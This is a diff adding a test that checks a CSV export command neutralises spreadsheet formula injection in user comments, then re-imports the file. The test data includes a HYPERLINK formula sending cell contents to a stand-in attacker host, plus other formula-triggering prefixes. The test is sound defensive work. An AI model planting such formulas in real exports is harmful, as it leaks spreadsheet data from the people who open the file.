@@ -164,3 +164,29 @@ def test_the_command_writes_excel_as_a_user(values: None, tmp_path: Path) -> Non
     assert len(rows) == 1 + 5
     assert {row[1] for row in rows[1:]} == {GRUNERLOKKA}
     assert rows[1][:4] == ("2024-03", GRUNERLOKKA, "SH_MOTTAKERE", 40)
+
+
+HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")
+
+
+def test_the_command_neutralises_formulas_in_comments(values: None) -> None:
+    register_values(
+        entries=[
+            Entry(GOL, APRIL, code, Cell.of(50), comment)
+            for code, comment in zip(("SH_MOTTAKERE", "SH_BARN", "SH_HOVEDKILDE", "SH_UNDER30"), HOSTILE, strict=True)
+        ],
+        user=None,
+        source=Source.TYPED,
+        now=NOW,
+    )
+    out = io.StringIO()
+    call_command("export-values", "--from", "2024-04", "--to", "2024-04", "--area", GOL, stdout=out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [row["comment"] for row in rows] == ["'" + text for text in HOSTILE]
+    assert [row["value"] for row in rows] == ["50"] * 4
+    # Read back, the comments are what was typed: nothing changes.
+    report = import_values(
+        path_or_file=io.BytesIO(out.getvalue().encode()), filename="eksport.csv", user=None,
+        valid_only=False, dry_run=True, now=NOW,
+    )
+    assert (report.refused, len(report.unchanged)) == ([], 4)
